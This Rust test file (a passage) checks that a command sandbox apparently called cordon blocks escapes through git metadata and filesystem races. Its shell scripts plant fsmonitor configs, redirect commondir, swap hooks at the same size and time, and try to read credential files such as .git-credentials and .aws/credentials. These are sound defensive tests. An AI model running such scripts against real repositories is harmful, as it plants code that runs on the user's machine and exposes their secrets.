    assert!(!fs::read_to_string(other.join(".git/HEAD"))
        .unwrap()
        .contains("pwned"));
    for git_dir in [&bare2, &bare3, &orphan] {
        let head = fs::read_to_string(git_dir.join("HEAD")).unwrap();
        assert!(!head.contains("pwned"), "{}", git_dir.display());
    }
}

#[test]
fn separate_git_dirs_and_submodules_work_inside() {
    let e = Env::new("separate-git-dir");
    let src = e.root.join("outside/src");
    fs::create_dir_all(&src).unwrap();
    crate::util::git_in(&src, &e.home, &["init", "-q", "."]);
    crate::util::git_in(&src, &e.home, &["commit", "-q", "--allow-empty", "-m", "s"]);
    let sep = e.root.join("outside/sep.git");
    fs::remove_dir_all(&e.ws).unwrap();
    crate::util::git_in(
        &e.root,
        &e.home,
        &[
            "clone",
            "-q",
            "--separate-git-dir",
            sep.to_str().unwrap(),
            src.to_str().unwrap(),
            e.ws.to_str().unwrap(),
        ],
    );
    let run = e
        .sh(&[], "git log --oneline && git -c user.email=t@t -c user.name=t commit -q --allow-empty -m inside && git log --oneline | wc -l")
        .ok();
    assert!(
        run.stdout.trim().ends_with('2'),
        "{} {}",
        run.stdout,
        run.stderr
    );
}

#[test]
fn cordons_config_cannot_be_created_where_its_folder_is_missing() {
    let e = Env::new("own-config-missing");
    let outside = e.root.join("outside");
    let cfg = outside.join("xdg-config");
    assert!(!exists(&cfg));
    let run = e
        .sh_command(
            &["--allow-write", outside.to_str().unwrap()],
            "mkdir -p \"$XDG_CONFIG_HOME/cordon\"; printf '[network]\\nmode = \"full\"\\n' > \"$XDG_CONFIG_HOME/cordon/config.toml\"; echo ok > \"$XDG_CONFIG_HOME/other\"; true",
        )
        .env("XDG_CONFIG_HOME", &cfg)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    assert!(
        !exists(&cfg.join("cordon/config.toml")),
        "user policy planted"
    );
    assert_eq!(fs::read_to_string(cfg.join("other")).unwrap(), "ok\n");
}

#[test]
fn the_users_own_submodule_configuration_is_never_moved() {
    let e = Env::with_git("submodule-own-config");
    add_submodule(&e, "sub");
    let module = e.ws.join(".git/modules/sub");
    crate::util::git_in(
        &e.ws.join("sub"),
        &e.home,
        &["config", "core.sshCommand", "ssh -i ~/.ssh/deploy_key"],
    );
    fs::write(module.join("hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    let config = fs::read_to_string(module.join("config")).unwrap();
    // Ordinary work inside, in the repository and in the submodule.
    e.sh(
        &[],
        "touch sub/f1 && git status --short && git -C sub add f1 && git -C sub -c user.email=t@t -c user.name=t commit -q --no-verify -m f1 && git -C sub config user.name me && git -C sub checkout -q -b feature && git status --short",
    )
    .ok();
    // Git rewrote the file (a setting added) around the user's own sshCommand: kept.
    let now = fs::read_to_string(module.join("config")).unwrap();
    assert!(
        now.starts_with(config.trim_end()) || now.contains("deploy_key"),
        "{now}"
    );
    assert!(now.contains("name = me"), "{now}");
    assert!(exists(&module.join("hooks/pre-commit")));
    assert!(!exists(&module.join("config.cordon-refused")));
    assert!(!exists(&module.join("hooks.cordon-refused")));
}

/// Adds a submodule at `path` (from a one-commit repository beside the workspace) and commits.
fn add_submodule(e: &Env, path: &str) {
    let upstream = e.root.join("outside/lib");
    fs::create_dir_all(&upstream).unwrap();
    crate::util::git_in(&upstream, &e.home, &["init", "-q", "."]);
    crate::util::git_in(
        &upstream,
        &e.home,
        &["commit", "-q", "--allow-empty", "-m", "lib"],
    );
    let url = upstream.to_str().unwrap();
    e.git(&[
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        url,
        path,
    ]);
    e.git(&["commit", "-qm", "sub"]);
}

#[test]
fn cordons_config_behind_a_dangling_link_is_created_and_protected() {
    let e = Env::new("own-config-dangling");
    let outside = e.root.join("outside");
    let link = outside.join("cfg-link");
    let real = outside.join("dotfiles/config");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    assert!(!exists(&real));
    let run = e
        .sh_command(
            &["--allow-write", outside.to_str().unwrap()],
            "mkdir -p \"$XDG_CONFIG_HOME/cordon\"; printf '[network]\\nmode = \"full\"\\n' > \"$XDG_CONFIG_HOME/cordon/config.toml\"; true",
        )
        .env("XDG_CONFIG_HOME", &link)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    assert!(
        !exists(&real.join("cordon/config.toml")),
        "user policy planted behind the link"
    );
}

#[test]
fn links_from_denied_dirs_into_the_sandboxs_own_trees_break_nothing() {
    let e = Env::new("deny-link-dev-null");
    std::os::unix::fs::symlink("/dev/null", e.home.join(".ssh/known_hosts")).unwrap();
    std::os::unix::fs::symlink(
        "/run/nothing-here/agent.sock",
        e.home.join(".ssh/agent.sock"),
    )
    .unwrap();
    // A regular file in the host's /tmp, which the sandbox replaces: nothing to hide there,
    // and trying to would fail the mount view.
    let in_tmp = std::env::temp_dir().join(format!("cordon-link-target-{}", std::process::id()));
    fs::write(&in_tmp, "x").unwrap();
    std::os::unix::fs::symlink(&in_tmp, e.home.join(".ssh/tmp-link")).unwrap();
    // A regular file in the host's /run, which the sandbox shows empty and read-only (only
    // root can make one: the root pass of the suite covers it).
    let in_run = PathBuf::from(format!("/run/cordon-link-target-{}", std::process::id()));
    if is_root() {
        fs::write(&in_run, "x").unwrap();
        std::os::unix::fs::symlink(&in_run, e.home.join(".ssh/run-link")).unwrap();
    }
    let run = e
        .sh(&[], "echo x > /dev/null && cat /dev/null && echo fine")
        .ok();
    let _ = fs::remove_file(&in_tmp);
    let _ = fs::remove_file(&in_run);
    assert!(run.stdout.contains("fine"), "{} {}", run.stdout, run.stderr);
}

/// A `core.fsmonitor` script that would write `proof`, and its config text: for planting.
fn fsmonitor_config(e: &Env, proof: &std::path::Path) -> String {
    let script = e.root.join("outside/fsm.sh");
    fs::create_dir_all(script.parent().unwrap()).unwrap();
    fs::write(
        &script,
        format!("#!/bin/sh\necho ran >> {}\n", proof.display()),
    )
    .unwrap();
    let _ = Command::new("chmod").arg("+x").arg(&script).status();
    format!("[core]\\n\\tfsmonitor = {}\\n", script.display())
}

/// The user's own `git status` in `dir`, after the run.
fn users_git_status(e: &Env, dir: &std::path::Path) {
    let _ = Command::new("git")
        .args(["status", "--porcelain"])
        .current_dir(dir)
        .env("HOME", &e.home)
        .output();
}

#[test]
fn a_linked_worktree_cannot_plant_the_main_checkouts_commondir() {
    // Git reads MAIN/.git/commondir whenever it runs in the main checkout: one naming a
    // folder of the command's would bring that folder's config (and fsmonitor) along.
    let e = Env::with_git("worktree-main-commondir");
    let feat = e.root.join("feat");
    e.git(&["worktree", "add", "-q", feat.to_str().unwrap()]);
    let proof = e.root.join("outside/ran");
    let config = fsmonitor_config(&e, &proof);
    let main_git = e.ws.join(".git");
    let script = format!(
        "mkdir -p evil/objects evil/refs && cp {g}/HEAD evil/ && printf '{config}' > evil/config; \
         echo \"$PWD/evil\" > {g}/commondir; true",
        g = main_git.display()
    );
    let run = sh_in(&e, &feat, &[], &script);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        !exists(&main_git.join("commondir")),
        "the main checkout's commondir was planted (or its placeholder left)"
    );
    users_git_status(&e, &e.ws);
    assert!(!exists(&proof), "the user's git status ran planted code");
}

#[test]
fn the_workspace_cannot_be_made_a_bare_repository() {
    // With .git broken, git takes a folder holding HEAD, objects/ and refs/ for a bare
    // repository and reads its config: the workspace's own top must not become one.
    let e = Env::with_git("bare-takeover");
    let proof = e.root.join("outside/ran");
    let config = fsmonitor_config(&e, &proof);
    let script = format!(
        "rm -f .git/HEAD; echo 'ref: refs/heads/main' > HEAD; mkdir -p objects refs; \
         printf '{config}\\tworktree = .\\n' > config; true"
    );
    let run = e.sh(&[], &script);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        !e.ws.join("HEAD").is_file(),
        "a HEAD file was made at the top"
    );
    assert!(!exists(&e.ws.join("HEAD")), "the HEAD placeholder was left");
    users_git_status(&e, &e.ws);
    assert!(!exists(&proof), "the user's git status ran planted code");
}

#[test]
fn an_audit_log_in_the_workspace_cannot_be_rewritten_by_the_command() {
    let e = Env::new("audit-in-ws");
    let log = e.ws.join("audit.jsonl");
    let run = e.sh(
        &["--audit", log.to_str().unwrap()],
        // The marker is put together inside: the log's command_start holds the script.
        "(: > audit.jsonl); (printf '%s%s\\n' FOR GED >> audit.jsonl); rm -f audit.jsonl; true",
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let text = fs::read_to_string(&log).unwrap_or_default();
    assert!(!text.contains("FORGED"), "the command wrote the audit log");
    assert!(
        text.contains("\"command_start\"") && text.contains("\"command_exit\""),
        "the run's own events are missing: {text}"
    );
}

#[test]
fn a_main_checkout_run_ending_does_not_unpin_a_worktree_runs_placeholder() {
    // Both runs pin MAIN/.git/config.worktree (absent); the main checkout's run ends first.
    // Removing the placeholder then would let the worktree's run create the file, which git
    // reads with extensions.worktreeConfig.
    let e = Env::with_git("placeholder-lock-base");
    e.git(&["config", "extensions.worktreeConfig", "true"]);
    let feat = e.root.join("feat");
    e.git(&["worktree", "add", "-q", feat.to_str().unwrap()]);
    let main_cw = e.ws.join(".git/config.worktree");
    let go = e.root.join("outside/main-finished");
    fs::create_dir_all(go.parent().unwrap()).unwrap();
    let script = format!(
        "i=0; while [ ! -e {go} ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; \
         echo '[core]' > {cw}; true",
        go = go.display(),
        cw = main_cw.display()
    );
    let mut argv: Vec<std::ffi::OsString> = vec!["run".into(), "-w".into(), feat.clone().into()];
    argv.extend(["--", "sh", "-c"].map(Into::into));
    argv.push(script.into());
    let argv: Vec<&std::ffi::OsStr> = argv.iter().map(|a| a.as_os_str()).collect();
    let mut worktree_run = e.command(&argv).current_dir(&feat).spawn().unwrap();
    assert!(
        crate::util::wait_until(|| exists(&main_cw)),
        "the worktree's run never made its placeholder"
    );
    e.sh(&[], "true").ok();
    fs::write(&go, "").unwrap();
    let status = worktree_run.wait().unwrap();
    assert!(status.success(), "the worktree's run failed: {status:?}");
    assert!(
        !fs::read_to_string(&main_cw)
            .unwrap_or_default()
            .contains("[core]"),
        "the worktree's run wrote the main checkout's config.worktree after the other run ended"
    );
}

#[test]
fn secrets_the_host_creates_or_replaces_during_a_run_stay_unreadable() {
    // A denied path absent when the sandbox was made has no cover; one the host replaces by
    // a rename (git credential-store rewriting ~/.git-credentials) loses its cover (the
    // kernel detaches a mount whose mount point is renamed over in another namespace).
    let e = Env::new("read-during-run");
    fs::write(e.home.join(".git-credentials"), "old\n").unwrap();
    // A dotfile manager's link to a folder made later (`aws configure` writes into it).
    fs::create_dir_all(e.home.join("dotfiles")).unwrap();
    fs::remove_dir_all(e.home.join(".aws")).unwrap();
    std::os::unix::fs::symlink(e.home.join("dotfiles/aws"), e.home.join(".aws")).unwrap();
    let go = e.root.join("outside/go");
    fs::create_dir_all(go.parent().unwrap()).unwrap();
    let h = e.home.display();
    let script = format!(
        "cat {h}/.bashrc; touch started; i=0; while [ ! -e {go} ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; \
         cat {h}/.git-credentials {h}/.kube/config {h}/.vault-token {h}/.aws/credentials {h}/dotfiles/aws/credentials; ls {h}/.kube; true",
        go = go.display()
    );
    let mut run = e.sh_command(&[], &script);
    let child = run.stdout(std::process::Stdio::piped()).spawn().unwrap();
    // The command is confined and running: only now does the host change its secrets.
    assert!(
        crate::util::wait_until(|| exists(&e.ws.join("started"))),
        "the run never started"
    );
    let fresh = e.home.join(".git-credentials.tmp");
    fs::write(&fresh, format!("https://u:{SECRET}@example.com\n")).unwrap();
    fs::rename(&fresh, e.home.join(".git-credentials")).unwrap();
    fs::create_dir_all(e.home.join(".kube")).unwrap();
    fs::write(e.home.join(".kube/config"), SECRET).unwrap();
    fs::write(e.home.join(".vault-token"), SECRET).unwrap();
    fs::create_dir_all(e.home.join("dotfiles/aws")).unwrap();
    fs::write(e.home.join("dotfiles/aws/credentials"), SECRET).unwrap();
    fs::write(&go, "").unwrap();
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("# original"),
        "control: the fake home is not visible inside:\n{stdout}"
    );
    assert!(!stdout.contains(SECRET), "secret leaked:\n{stdout}");
}

#[test]
fn a_protected_file_the_host_replaces_during_a_run_ends_the_run() {
    // `git config` on the host renames a new .git/config over the old one; the kernel then
    // drops the sandbox's read-only mount on it. The command, polling for that moment, tries
    // to plant an fsmonitor; whatever it manages before the run ends must not run later.
    let e = Env::with_git("cover-lost");
    let proof = e.root.join("outside/ran");
    let config = fsmonitor_config(&e, &proof);
    let script = format!(
        "touch started; i=0; while [ $i -lt 20000 ]; do \
         (printf '{config}' >> .git/config) 2>/dev/null && break; i=$((i+1)); done; sleep 5; true"
    );
    let child = e
        .sh_command(&[], &script)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    assert!(
        crate::util::wait_until(|| exists(&e.ws.join("started"))),
        "the run never started"
    );
    e.git(&["config", "user.name", "host-side change"]);
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "the run went on: {stderr}");
    assert!(stderr.contains("ended the run"), "{stderr}");
    users_git_status(&e, &e.ws);
    assert!(!exists(&proof), "the user's git status ran planted code");
    let config_now = fs::read_to_string(e.ws.join(".git/config")).unwrap_or_default();
    assert!(!config_now.contains("fsmonitor"), "{config_now}");
}

#[test]
fn a_nested_repository_hook_swapped_at_the_same_size_and_time_is_seen() {
    // The user's own hook in a submodule, replaced by one of the same size with its
    // modification time put back: the listing's inode and change time still differ.
    let e = Env::with_git("hook-swap");
    add_submodule(&e, "lib");
    let hook = e.ws.join(".git/modules/lib/hooks/post-checkout");
    // Long enough that the swapped-in one, naming the proof's path, fits in its size.
    let lint = format!(
        "#!/bin/sh\necho 'running the lint hook{}'\n",
        ".".repeat(300)
    );
    fs::write(&hook, lint).unwrap();
    let _ = Command::new("chmod").arg("+x").arg(&hook).status();
    let proof = e.root.join("outside/ran");
    let script = format!(
        "H=.git/modules/lib/hooks/post-checkout; T=$(stat -c %y $H); S=$(stat -c %s $H); \
         body=\"#!/bin/sh\ntouch {p}\"; printf '%s' \"$body\" > $H.new; \
         pad=$((S - ${{#body}})); [ $pad -gt 0 ] && printf '%*s' $pad '' | tr ' ' '#' >> $H.new; \
         mv $H.new $H; chmod +x $H; touch -d \"$T\" $H; [ $(stat -c %s $H) = $S ]",
        p = proof.display()
    );
    let run = e.sh(&[], &script);
    assert_eq!(run.code, 0, "the swap itself failed: {}", run.stderr);
    let _ = Command::new("git")
        .args(["checkout", "-q", "-b", "x"])
        .current_dir(e.ws.join("lib"))
        .env("HOME", &e.home)
        .output();
    assert!(!exists(&proof), "the swapped hook ran on the host");
    assert!(run.stderr.contains("refused"), "{}", run.stderr);
}

#[test]
fn a_gitlink_added_through_the_shared_index_alone_is_checked() {
    // A split index: the command leaves `.git/index` alone and writes the shared index it
    // names, adding a gitlink to a nested repository with a planted fsmonitor.
    let e = Env::with_git("split-index");
    e.git(&["update-index", "--split-index"]);
    let proof = e.root.join("outside/ran");
    let script = format!(
        "{plant} && X=$(ls .git/sharedindex.* | head -1) && cp -a .git g2 && \
         GIT_DIR=g2 GIT_WORK_TREE=. git update-index --add --cacheinfo 160000,$(git -C evil rev-parse HEAD),evil && \
         GIT_DIR=g2 GIT_WORK_TREE=. git update-index --split-index && Y=$(ls -t g2/sharedindex.* | head -1) && \
         python3 -c 'import sys; x=open(sys.argv[1],\"rb\").read(); y=open(sys.argv[2],\"rb\").read(); open(sys.argv[1],\"r+b\").write(y[:-20]+x[-20:])' $X $Y && \
         rm -rf g2 && git ls-files -s | grep -q 160000",
        plant = planted("evil", &proof)
    );
    let run = e.sh(&[], &script);
    assert_eq!(run.code, 0, "the planting itself failed: {}", run.stderr);
    users_git_status(&e, &e.ws);
    users_git_status(&e, &e.ws.join("evil"));
    assert!(!exists(&proof), "the planted fsmonitor ran on the host");
}

/// Runs `cmd` to its end, or kills it after a minute: whether it ended by itself.
fn ends_within_a_minute(cmd: &mut Command) -> bool {
    let mut child = cmd
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    for _ in 0..600 {
        if child.try_wait().unwrap().is_some() {
            return true;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let _ = child.kill();
    let _ = child.wait();
    false
}

#[test]
fn a_fifo_left_where_git_files_were_does_not_hang_cordon() {
    // The after-run check reads the workspace's index and nested repositories' configs,
    // which the command may replace by anything: a FIFO there must not block cordon.
    let e = Env::with_git("fifo-git");
    add_submodule(&e, "lib");
    let script = "rm .git/modules/lib/config && mkfifo .git/modules/lib/config && \
                  rm .git/index && mkfifo .git/index";
    assert!(
        ends_within_a_minute(&mut e.sh_command(&[], script)),
        "cordon hung on a FIFO after the run"
    );
    let module_config = e.ws.join(".git/modules/lib/config");
    assert!(
        !fs::symlink_metadata(&module_config).is_ok_and(|m| m.file_type().is_fifo()),
        "the FIFO was left where git reads its configuration"
    );
}

#[test]
fn a_denied_file_in_the_workspace_replaced_on_the_host_ends_the_run() {
    // Inside a writable root Landlock grants everything, so the hiding mount is the only
    // cover there, and an editor saving by rename takes it away.
    let e = Env::new("deny-in-ws");
    fs::write(e.ws.join(".env"), "DB_PASS=old\n").unwrap();
    let go = e.root.join("outside/go");
    fs::create_dir_all(go.parent().unwrap()).unwrap();
    let script = format!(
        "touch started; i=0; while [ ! -e {go} ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done; cat .env; true",
        go = go.display()
    );
    let deny = e.ws.join(".env");
    let child = e
        .sh_command(&["--deny-read", deny.to_str().unwrap()], &script)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    assert!(
        crate::util::wait_until(|| exists(&e.ws.join("started"))),
        "the run never started"
    );
    fs::write(e.ws.join(".env.swp"), format!("DB_PASS={SECRET}\n")).unwrap();
    fs::rename(e.ws.join(".env.swp"), e.ws.join(".env")).unwrap();
    // cordon looks every 50 ms; the command reads only after this.
    std::thread::sleep(std::time::Duration::from_millis(500));
    fs::write(&go, "").unwrap();
    let out = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!stdout.contains(SECRET), "secret read: {stdout}");
    assert_eq!(
        out.status.code(),
        Some(125),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
